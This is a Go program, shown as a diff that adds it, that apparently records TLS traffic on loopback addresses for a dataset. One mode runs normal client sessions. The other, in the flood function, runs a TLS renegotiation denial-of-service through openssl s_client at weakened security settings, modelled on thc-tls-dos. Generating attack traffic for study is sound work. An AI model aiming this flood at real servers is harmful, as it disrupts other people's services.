@@ -1,0 +1,123 @@
+// Command people is what make.sh records: TLS servers and their clients, all of them real programs.
+//
+//	people normal WORK: 82 visits of ordinary clients, 120 sessions or so, up to three at a time
+//	people attack-renegotiation WORK: 20 sessions that ask for new keys again and again, and for nothing else
+//
+// WORK is a folder for keys and pages. Everything happens on 127.0.0.1 (the clients) and 127.0.1.1 and so on, port 443. It
+// must be root's network namespace: make.sh sees to that.
+package main
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"os"
+	"os/exec"
+	"sync"
+	"time"
+)
+
+const (
+	seed    = 2019
+	visits  = 82 // some of two connections
+	attacks = 20
+)
+
+func main() {
+	if len(os.Args) != 3 {
+		fmt.Fprintln(os.Stderr, "usage: people normal|attack-renegotiation WORK, see make.sh")
+		os.Exit(2)
+	}
+	if err := run(os.Args[1], os.Args[2]); err != nil {
+		fmt.Fprintln(os.Stderr, "people:", err)
+		os.Exit(1)
+	}
+}
+
+func run(what, work string) error {
+	sites, err := makeSites(work)
+	if err != nil {
+		return err
+	}
+	for _, s := range sites {
+		stop, err := s.serve(work)
+		if err != nil {
+			return fmt.Errorf("%s: %w", s.name, err)
+		}
+		defer stop()
+	}
+	time.Sleep(time.Second)
+	rng := rand.New(rand.NewPCG(seed, 1))
+	if what == "normal" {
+		return normal(rng, sites, work)
+	}
+	return flood(rng, sites)
+}
+
+// normal has clients visit sites, each by its habits.
+func normal(rng *rand.Rand, sites []*site, work string) error {
+	const atOnce = 3
+	turns := make(chan struct{}, atOnce)
+	var all sync.WaitGroup
+	done := map[string]int{}
+	var mu sync.Mutex
+	for k := range visits {
+		v, ok := newVisit(rng, sites, work)
+		if !ok {
+			return fmt.Errorf("no client and site understand each other")
+		}
+		pause := time.Duration(rng.ExpFloat64()*60) * time.Millisecond
+		turns <- struct{}{}
+		all.Go(func() {
+			defer func() { <-turns }()
+			if err := v.run(); err != nil {
+				fmt.Fprintf(os.Stderr, "session %d, %s at %s: %v\n", k, v.client.name, v.site.name, err)
+			} else {
+				mu.Lock()
+				done[v.client.name]++
+				mu.Unlock()
+			}
+		})
+		time.Sleep(pause)
+	}
+	all.Wait()
+	fmt.Println("sessions by client:", done)
+	return nil
+}
+
+// flood is the attack: a client of OpenSSL that asks for new keys as soon as it has some, as thc-tls-dos does, and one
+// after another at each of the sites that allow it.
+func flood(rng *rand.Rand, sites []*site) error {
+	var weak []*site
+	for _, s := range sites {
+		if s.renegotiates {
+			weak = append(weak, s)
+		}
+	}
+	var all sync.WaitGroup
+	for range attacks {
+		s, times := weak[rng.IntN(len(weak))], 20+rng.IntN(12)
+		suite := []string{"ECDHE", "AES128-SHA:ECDHE-ECDSA-AES128-SHA", "ALL"}[rng.IntN(3)]
+		pause := time.Duration(20+rng.IntN(60)) * time.Millisecond
+		all.Go(func() {
+			s.busy.Lock()
+			defer s.busy.Unlock()
+			cmd := exec.Command("openssl", "s_client", "-connect", s.address, "-tls1_2", "-cipher", suite+":@SECLEVEL=0")
+			in, err := cmd.StdinPipe()
+			if err != nil {
+				panic(err)
+			}
+			if err := cmd.Start(); err != nil {
+				panic(err)
+			}
+			time.Sleep(150 * time.Millisecond)
+			for range times {
+				fmt.Fprintln(in, "R") // renegotiate
+				time.Sleep(pause)
+			}
+			in.Close()
+			cmd.Wait()
+		})
+	}
+	all.Wait()
+	return nil
+}
